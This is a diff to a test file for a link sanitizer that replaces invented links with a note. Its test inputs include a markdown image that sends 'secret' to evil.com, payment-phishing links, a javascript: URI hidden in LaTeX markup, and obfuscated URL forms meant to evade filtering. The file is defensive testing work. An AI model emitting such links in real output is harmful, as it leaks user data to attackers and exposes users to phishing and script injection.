@@ -78,6 +78,9 @@ def test_an_invented_link_is_replaced_by_a_note(link):
         ("![x](https://evil.com/p.png?said=secret)", f"x {NOTE}"),
         ('<a href="https://evil.com/pay">Pay now</a>', f"Pay now {NOTE}"),
         ("[Pay][1]\n\n[1]: https://evil.com/pay", f"[Pay][1]\n\n1: {NOTE}"),
+        ("$\\href{javascript:alert(1)}{Pay now}$", f"$Pay now {NOTE}$"),
+        ("\\url{//evil.com} \\includegraphics[width=1em]{p.png}", f"{NOTE} {NOTE}"),
+        ("https:\\\\evil.com/pay or https:evil.com/pay", f"{NOTE} or {NOTE}"),
     ],
 )
 def test_an_invented_link_does_not_hide_in_markup(text, expected):
@@ -89,6 +92,7 @@ def test_an_invented_link_does_not_hide_in_markup(text, expected):
     [
         (f"<a href={SIGNED}>Pay now</a>", f"Pay now: {SIGNED}"),
         (f"<{SIGNED}|Pay now>", f"Pay now: {SIGNED}"),
+        (f"\\href{{{SIGNED}}}{{Pay now}}", f"Pay now: {SIGNED}"),
         ("<https://evil.com/pay|Pay now>", f"Pay now {NOTE}"),
         (f"Pay: {SIGNED}—thanks", f"Pay: {SIGNED} —thanks"),
         (f"👉{SIGNED}👈", f"👉{SIGNED} 👈"),
